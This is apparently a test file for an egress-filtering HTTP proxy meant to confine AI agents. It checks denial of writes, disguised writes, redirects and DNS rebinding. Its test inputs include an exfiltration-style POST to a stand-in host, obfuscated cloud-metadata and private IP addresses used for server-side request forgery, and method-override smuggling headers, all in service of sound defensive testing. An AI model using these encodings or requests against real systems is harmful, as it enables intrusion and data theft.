// The HTTP listener end to end, inside a namespace holding only lo: reads, writes sent over TLS,
// header hygiene, disguised writes, IP literals, redirects to internal targets, and the audit record.
import { Agent, request as httpRequest } from 'node:http';
import t from 'tap';
import { AGENT_AUTH, basic, codeOf, rawExchange, startSluice, viaProxy } from '../helpers/harness.js';
import { isolate } from '../helpers/netns.js';
import { PASSWORD, buildWorld, worldConfig } from '../helpers/world.js';

if (isolate(t, import.meta.url)) {
  const w = await buildWorld(t);
  const h = await startSluice(t, worldConfig(w));
  const pub = `http://public.test:${w.publicHttp.port}`;

  t.test('an allowed read reaches the target with a clean request', async (t) => {
    const before = w.publicHttp.requests.length;
    const r = await viaProxy(h.port, {
      url: `${pub}/hello?q=1`,
      headers: {
        host: 'evil.test',
        connection: 'x-secret',
        'x-secret': 'hop',
        'keep-alive': '5',
        te: 'trailers',
        'x-keep': 'yes',
      },
    });
    t.equal(r.status, 200);
    t.match(r.body, /^canary GET \/hello\?q=1/);
    const seen = w.publicHttp.requests[before]!;
    t.equal(
      seen.headers.host,
      `public.test:${w.publicHttp.port}`,
      'upstream Host is the target, not the client Host (RFC 9112 §3.2.2)',
    );
    t.equal(seen.headers['proxy-authorization'], undefined, 'credentials never travel upstream');
    t.equal(seen.headers['x-secret'], undefined, 'headers named by Connection are hop-by-hop');
    t.equal(seen.headers['keep-alive'], undefined);
    t.equal(seen.headers.te, undefined);
    t.equal(seen.headers['x-keep'], 'yes', 'end-to-end headers pass');
    t.equal(r.headers['x-hop'], undefined, 'response headers named by Connection are dropped');
  });

  t.test('a write to an integration goes over TLS even when sent as http://', async (t) => {
    const before = w.integration.requests.length;
    const r = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://api.test/repos',
      body: 'payload',
      headers: { 'content-type': 'text/plain' },
    });
    t.equal(r.status, 200);
    const seen = w.integration.requests[before]!;
    t.same(
      [seen.method, seen.url, seen.body, seen.headers.host],
      ['POST', '/repos', 'payload', 'api.test'],
      'arrived over TLS on 443 with its body',
    );
    const chunked = await viaProxy(h.port, {
      method: 'PUT',
      url: 'http://api.test/chunk',
      body: 'x'.repeat(70000),
      headers: { 'transfer-encoding': 'chunked' },
    });
    t.equal(chunked.status, 200);
    t.equal(w.integration.requests.at(-1)!.body.length, 70000, 'chunked bodies stream through');
  });

  t.test('an https:// read: Sluice originates TLS and verifies the certificate', async (t) => {
    const ok = await viaProxy(h.port, { url: 'https://api.test/read' });
    t.equal(ok.status, 200);
    const wrongName = await viaProxy(h.port, { url: 'https://wrongcert.test/' });
    t.equal(wrongName.status, 502);
    t.equal(
      codeOf(wrongName),
      'EGR_UPSTREAM_TLS',
      'a certificate that does not name the host is an upstream TLS failure',
    );
  });

  t.test('writes to anything else are denied before any connection or lookup', async (t) => {
    const conns = w.publicHttp.connections;
    const asked = w.dns.asked('exfil.test');
    const r = await viaProxy(h.port, { method: 'POST', url: 'http://exfil.test/collect', body: 'secret' });
    t.equal(r.status, 403);
    t.equal(codeOf(r), 'EGR_DENY_WRITE');
    t.match(r.body, /EGR_DENY_WRITE.*do not retry around it|do not retry around it.*EGR_DENY_WRITE/);
    t.match(String(r.headers['proxy-status']), /^sluice; error=http_request_denied; details="EGR_DENY_WRITE"$/);
    t.equal(w.dns.asked('exfil.test'), asked, 'a denied name is never resolved');
    t.equal(w.publicHttp.connections, conns);
  });

  t.test('writes in disguise', async (t) => {
    const body = await viaProxy(h.port, {
      url: `${pub}/`,
      body: 'smuggled',
      headers: { 'content-type': 'text/plain', 'content-length': '8' },
    });
    t.equal(codeOf(body), 'EGR_DENY_DISGUISED_WRITE', 'GET with a body');
    for (const hdr of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      const o = await viaProxy(h.port, { url: `${pub}/`, headers: { [hdr]: 'DELETE' } });
      t.equal(codeOf(o), 'EGR_DENY_DISGUISED_WRITE', hdr);
    }
    const ws = await rawExchange(
      h.port,
      `GET ${pub}/ws HTTP/1.1\r\nHost: public.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nProxy-Authorization: ${AGENT_AUTH}\r\n\r\n`,
    );
    t.match(ws.text, /^HTTP\/1\.1 403 /);
    t.match(ws.text, /EGR_DENY_DISGUISED_WRITE/);
  });

  t.test('IP literals, metadata and private targets', async (t) => {
    const hits = w.forbiddenHits();
    for (const url of [
      'http://169.254.169.254/latest/meta-data/',
      'http://0xa9fea9fe/',
      'http://2852039166/',
      'http://[::ffff:169.254.169.254]/',
      'http://10.0.0.1/',
      'http://0x7f.1:3128/',
    ]) {
      const r = await viaProxy(h.port, { url });
      t.equal(codeOf(r), 'EGR_DENY_IP_LITERAL', url);
    }
    const byName = await viaProxy(h.port, { url: 'http://meta.test/latest/meta-data/' });
    t.equal(codeOf(byName), 'EGR_DENY_ADDRESS_LINK_LOCAL', 'metadata by name');
    const priv = await viaProxy(h.port, { url: 'http://internal.test/' });
    t.equal(codeOf(priv), 'EGR_DENY_ADDRESS_PRIVATE', 'private by name');
    t.equal(w.forbiddenHits(), hits, 'no connection reached the metadata or private canaries');
  });

  t.test('a redirect to an internal target is just another denied request', async (t) => {
    const hits = w.forbiddenHits();
    const r = await viaProxy(h.port, { url: `${pub}/redirect` });
    t.equal(r.status, 302, 'Sluice passes the 3xx to the client and never follows it');
    const next = await viaProxy(h.port, { url: String(r.headers.location) });
    t.equal(codeOf(next), 'EGR_DENY_IP_LITERAL');
    t.equal(w.forbiddenHits(), hits);
  });

  t.test('identity: 407 only for credentials', async (t) => {
    const none = await viaProxy(h.port, { url: `${pub}/`, auth: null });
    t.equal(none.status, 407);
    t.equal(codeOf(none), 'EGR_AUTH_REQUIRED');
    t.match(String(none.headers['proxy-authenticate']), /^Basic realm="sluice"/);
    const wrong = await viaProxy(h.port, { url: `${pub}/`, auth: basic('agent', 'nope') });
    t.equal(codeOf(wrong), 'EGR_AUTH_INVALID');
    const unknown = await viaProxy(h.port, { url: `${pub}/`, auth: basic('nobody', PASSWORD) });
    t.equal(codeOf(unknown), 'EGR_AUTH_INVALID');
    const garbage = await viaProxy(h.port, { url: `${pub}/`, auth: 'Bearer abc' });
    t.equal(codeOf(garbage), 'EGR_AUTH_INVALID');
    const denied = await viaProxy(h.port, { url: `${pub}/`, auth: basic('sealed', PASSWORD) });
    t.equal(denied.status, 403, 'a valid identity without the right gets 403, not 407');
    t.equal(codeOf(denied), 'EGR_DENY_READ');
  });

  t.test('run tokens: narrowed rights and expiry', async (t) => {
    const { issueToken } = await import('../../proxy/auth/run-token.js');
    const { readFileSync } = await import('node:fs');
    const key = Buffer.from(readFileSync(w.tokenKeyFile, 'utf8').trim());
    const nowS = Math.floor(Date.now() / 1000);
    const narrow = issueToken(key, { sub: 'agent', ttlS: 600, nowS, int: [] });
    const denied = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://api.test/x',
      body: 'x',
      auth: basic('agent', narrow),
    });
    t.equal(codeOf(denied), 'EGR_DENY_WRITE', 'a token with no integrations cannot write');
    const full = issueToken(key, { sub: 'agent', ttlS: 600, nowS, int: ['api'] });
    const ok = await viaProxy(h.port, {
      method: 'POST',
      url: 'http://api.test/x',
      body: 'x',
      auth: basic('agent', full),
    });
    t.equal(ok.status, 200);
    const expired = issueToken(key, { sub: 'agent', ttlS: 1, nowS: nowS - 10 });
    const r = await viaProxy(h.port, { url: `${pub}/`, auth: basic('agent', expired) });
    t.equal(r.status, 407);
    t.equal(codeOf(r), 'EGR_AUTH_EXPIRED');
    const rec = h.decisions().find((d) => d.code === null && d.run !== null);
    t.ok(rec, 'run id is in the audit record');
    t.notMatch(h.logText(), new RegExp(full.split('.').at(-1)!), 'the token never reaches the log');
  });

  t.test('origin-form requests are not proxy requests', async (t) => {
    const r = await viaProxy(h.port, { url: '/' });
    t.equal(codeOf(r), 'EGR_INVALID_TARGET');
    const userinfo = await viaProxy(h.port, { url: `http://user:pw@public.test:${w.publicHttp.port}/` });
    t.equal(codeOf(userinfo), 'EGR_INVALID_TARGET');
  });

  t.test(
    'a WebSocket upgrade to an integration that did not opt in to it is refused (test/proxy/upgrade.test.ts has the rest)',
    async (t) => {
      const before = w.integration.requests.length;
      const r = await rawExchange(
        h.port,
        `GET http://api.test/socket HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nProxy-Authorization: ${AGENT_AUTH}\r\n\r\n`,
        1500,
      );
      t.match(r.text, /^HTTP\/1\.1 403 /);
      t.match(r.text, /EGR_DENY_UPGRADE/);
      t.equal(w.integration.requests.length, before, 'nothing reached the integration');
    },
  );

  t.test('one canonical audit record per request', async (t) => {
    const before = h.decisions().length;
    await viaProxy(h.port, { url: `${pub}/audit` });
    await viaProxy(h.port, { method: 'DELETE', url: 'http://exfil.test/' });
    const [allow, deny] = h.decisions().slice(before);
    t.match(allow, {
      msg: 'egress.decision',
      level: 30,
      listener: 'http',
      identity: 'agent',
      method: 'GET',
      'target.host': 'public.test',
      verdict: 'allow',
      code: null,
      status: 200,
      'dial.address': '127.0.0.2',
    });
    for (const f of [
      'id',
      'client.addr',
      'target.port',
      'rule',
      'dns.ms',
      'bytes.up',
      'bytes.down',
      'duration.ms',
      'wouldDeny',
      'connect.ms',
    ])
      t.ok(f in allow!, `field ${f}`);
    t.match(deny, {
      level: 40,
      verdict: 'deny',
      code: 'EGR_DENY_WRITE',
      rule: 'integrations',
      'target.host': 'exfil.test',
    });
    t.equal(h.decisions().length, before + 2, 'exactly one record each');
    t.notMatch(h.logText(), new RegExp(PASSWORD), 'the password never reaches the log');
  });

  t.test("bytes.up is per request, not the keep-alive connection's running total", async (t) => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    t.teardown(() => agent.destroy());
    const get = () =>
      new Promise<number>((resolve, reject) => {
        const req = httpRequest(
          {
            host: '127.0.0.1',
            port: h.port,
            path: `${pub}/bytes`,
            agent,
            headers: { 'proxy-authorization': AGENT_AUTH },
          },
          (res) => {
            res.resume();
            res.on('end', () => resolve(res.statusCode ?? 0));
          },
        );
        req.on('error', reject);
        req.end();
      });
    const before = h.decisions().length;
    for (let i = 0; i < 3; i++) t.equal(await get(), 200);
    while (h.decisions().length < before + 3) await new Promise((r) => setTimeout(r, 10));
    const ups = h
      .decisions()
      .slice(before)
      .map((d) => d['bytes.up'] as number);
    t.ok(ups[0]! > 0, 'the request head is counted');
    t.same(ups, [ups[0], ups[0], ups[0]], 'three equal requests on one connection count the same');
  });

  t.test('TLS-originated keep-alive reuse still goes to validated addresses only', async (t) => {
    // Rebind api.test to a private address; pooled connections must not be used to dodge the check.
    w.dns.set('api.test', { a: ['10.0.0.1'] });
    h.sluice.resolver.clear();
    const r = await viaProxy(h.port, { method: 'POST', url: 'http://api.test/again', body: 'x' });
    t.equal(codeOf(r), 'EGR_DENY_ADDRESS_PRIVATE');
    w.dns.set('api.test', { a: ['127.0.0.3'] });
    h.sluice.resolver.clear();
  });
}
